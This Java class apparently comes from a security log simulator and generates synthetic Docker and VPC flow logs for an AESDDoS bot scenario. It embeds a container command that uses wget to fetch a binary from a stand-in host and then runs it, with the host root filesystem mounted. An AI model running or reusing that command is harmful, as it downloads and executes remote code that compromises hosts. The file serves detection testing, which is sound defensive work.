package dev.cloudwarden.simulate.scenario;

import dev.cloudwarden.simulate.write.Formats;
import dev.cloudwarden.simulate.write.LogKind;
import dev.cloudwarden.simulate.write.LogLine;
import dev.cloudwarden.simulate.write.ScenarioInfo;

import java.time.Instant;
import java.util.List;
import java.util.Random;
import java.util.function.Consumer;

/**
 * M3 AESDDoS: through a misconfigured Docker API a container is created whose command downloads and runs the
 * bot ({@code wget ... | sh}); on command it floods a target.
 */
public final class AesDdosDocker implements Scenario {
    static final String ID = "m3-aesddos-docker";
    private static final String C2 = "203.0.113.140";

    @Override
    public ScenarioInfo info() {
        return new ScenarioInfo(ID, "M3", "AESDDoS bot dropped through the Docker API", List.of("T1190", "T1610", "T1498"));
    }

    @Override
    public void generate(Instant start, Random random, Consumer<LogLine> out) {
        String[] host = World.INSTANCES.get(0);
        Instant t = start.plusSeconds(2);
        out.accept(new LogLine(LogKind.DOCKER, t, Formats.dockerd(t, Formats.ec2Hostname(host[1]), "debug", "Calling POST /v1.37/containers/create"), ID));
        out.accept(new LogLine(LogKind.DOCKER, t, Formats.dockerd(t, Formats.ec2Hostname(host[1]), "debug",
                "form data: {\"Cmd\":[\"/bin/sh\",\"-c\",\"cd /tmp; wget http://" + C2 + ":8080/AES -O aes; chmod +x aes; ./aes\"],"
                        + "\"Image\":\"alpine:3.18\",\"HostConfig\":{\"Binds\":[\"/:/host\"]}}"), ID));
        t = t.plusSeconds(1);
        out.accept(new LogLine(LogKind.DOCKER, t, Formats.dockerd(t, Formats.ec2Hostname(host[1]), "debug", "Calling POST /v1.37/containers/9a8b7c6d5e4f/start"), ID));
        for (int i = 0; i < 4; i++) {
            Instant f = t.plusSeconds(300 + 60L * i);
            out.accept(new LogLine(LogKind.VPC_FLOW, f, Formats.flow(World.ACCOUNT, host[2], host[1], "192.0.2.80",
                    1024 + random.nextInt(60000), 443, 6, 900_000 + random.nextInt(50_000), 54_000_000L, f, true), ID));
        }
    }
}
